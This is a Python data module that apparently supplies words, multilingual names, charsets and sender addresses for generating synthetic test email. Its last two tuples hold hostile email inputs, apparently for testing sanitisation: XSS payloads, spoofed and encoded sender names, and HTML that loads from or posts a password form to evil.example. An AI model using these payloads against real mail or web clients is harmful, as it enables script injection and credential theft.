"""Words, names and topics of generated mail."""

# ruff: noqa: RUF001 - foreign letters are the point

WORDS = [
    "the",
    "quarterly",
    "report",
    "is",
    "attached",
    "please",
    "review",
    "it",
    "before",
    "our",
    "meeting",
    "on",
    "thursday",
    "and",
    "let",
    "me",
    "know",
    "whether",
    "the",
    "numbers",
    "match",
    "what",
    "you",
    "have",
    "seen",
    "so",
    "far",
    "we",
    "could",
    "also",
    "move",
    "the",
    "workshop",
    "to",
    "next",
    "week",
    "if",
    "that",
    "suits",
    "everyone",
    "better",
    "the",
    "train",
    "leaves",
    "at",
    "nine",
    "from",
    "the",
    "main",
    "station",
    "I",
    "booked",
    "two",
    "seats",
    "near",
    "the",
    "window",
    "could",
    "you",
    "bring",
    "the",
    "printed",
    "plans",
    "and",
    "the",
    "old",
    "contract",
    "thanks",
    "again",
    "for",
    "your",
    "help",
    "yesterday",
    "the",
    "team",
    "was",
    "very",
    "happy",
    "with",
    "how",
    "it",
    "went",
    "there",
    "is",
    "still",
    "one",
    "open",
    "question",
    "about",
    "the",
    "delivery",
    "date",
    "which",
    "the",
    "supplier",
    "has",
    "not",
    "confirmed",
    "yet",
    "I",
    "will",
    "call",
    "them",
    "tomorrow",
    "morning",
    "and",
    "write",
    "to",
    "you",
    "as",
    "soon",
    "as",
    "I",
    "hear",
    "more",
    "kind",
    "regards",
    "from",
    "rainy",
    "harbour",
    "our",
    "garden",
    "needs",
    "water",
    "while",
    "we",
    "are",
    "away",
    "the",
    "key",
    "is",
    "with",
    "the",
    "neighbour",
    "in",
    "the",
    "blue",
    "house",
]

FIRST_NAMES = (
    "Alice", "Bernd", "Chloé", "Dmitri", "Esra", "Fatima", "Günther", "Hana", "Ilja", "Jörg",
    "Katarzyna", "Luís", "Mirjam", "Noor", "Øyvind", "Priya", "Quentin", "Rosa", "Søren", "Tomás",
)  # fmt: skip
LAST_NAMES = (
    "Abel", "Brandt", "Carvalho", "Dubois", "Eriksen", "Fischer", "Garcia", "Horvat", "Ivanova",
    "Jansen", "Kowalska", "Lindqvist", "Meyer", "Novak", "O'Brien", "Petrov", "Quispe", "Rossi",
)  # fmt: skip
DOMAINS = ("example.com", "example.org", "example.net", "mail.example", "firma.example")
SENDERS = (
    ("Harbour Weekly", "news@harbour.example"),
    ("Shop & Ship", "offers@shop.example"),
    ("Rail Updates", "no-reply@rail.example"),
    ("Open Source Digest", "digest@oss.example"),
    ("Museum of Clocks", "hello@clocks.example"),
)
NOTIFIERS = (
    ("Parcel Service", "tracking@parcel.example"),
    ("City Bank", "alerts@bank.example"),
    ("Code Forge", "notifications@forge.example"),
    ("Dentist Dr. Weiß", "termine@praxis.example"),
)
SUBJECTS = (
    "Plans for {}", "Question about {}", "{}: minutes", "Invoice {}", "Photos from {}",
    "Trip to {}", "{} – next steps", "Draft of {}", "Your order {}", "Welcome to {}",
)  # fmt: skip
TOPICS = (
    "the workshop", "Lisbon", "the harbour project", "Q3", "the birthday", "the new office",
    "2026-1187", "the choir", "Zürich", "the roof", "onboarding", "the archive",
)  # fmt: skip
LABELS = ("Projects", "Projects/Harbour", "Receipts", "Travel", "Family")

# (charset, transfer encoding, a sentence that needs it)
FOREIGN = (
    ("iso-8859-1", "quoted-printable", "Schöne Grüße aus München, das Café öffnet um zwölf Uhr."),
    ("windows-1252", "quoted-printable", "L’été arrive – le budget est de 1 500 €, « très bien »."),
    ("windows-1252", "8bit", "Die Rechnung beträgt 20 € – „bitte prüfen“."),
    ("koi8-r", "base64", "Добрый день, встреча переносится на пятницу."),
    ("gb18030", "base64", "您好，会议改到星期五下午三点。"),
    ("iso-2022-jp", "7bit", "お世話になっております。会議は金曜日です。"),
    ("utf-8", "8bit", "Ünïcödé straight through: naïve café ☕ 🚢."),
    ("utf-8", "base64", "שלום, הפגישה נדחתה ליום שישי. مرحبا بالعالم"),
)

HOSTILE_NAMES = (
    '"<script>alert(1)</script>" <x@evil.example>',
    '"admin@bank.example" <mallory@evil.example>',
    "=?utf-8?B?4oCuZWxwbWF4ZS5rbmFi?= <rtl@evil.example>",
    '"=?utf-8?Q?=3Cimg_src=3Dx_onerror=3Dalert=281=29=3E?=" <q@evil.example>',
    "Null\x00Byte <n@evil.example>",
)
HOSTILE_HTML = (
    "<p>Hello</p><script>parent.location='https://evil.example/'</script>"
    "<img src=x onerror=\"fetch('https://evil.example/')\">"
    '<a href="javascript:alert(1)">click</a><a href="https://evil.example/" target="_top">top</a>'
    '<form action="https://evil.example/login"><input name=password type=password></form>'
    "<style>@import url(https://evil.example/x.css); body{background:url(//evil.example/p.png)}"
    ".antares-nav{position:fixed;inset:0}</style>"
    '<svg><a xlink:href="javascript:alert(2)"><text>x</text></a></svg><math><mtext></style>'
    "<img src=y onerror=alert(3)></math><iframe srcdoc='<script>alert(4)</script>'></iframe>"
    '<img srcset="https://evil.example/a.png 1x" src="data:image/svg+xml,<svg onload=alert(5)>">'
    '<p style="background-image:url(https://evil.example/css.png)">styled</p>'
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">'
    '<object data="https://evil.example/o"></object><link rel=stylesheet href="//evil.example/c">'
)
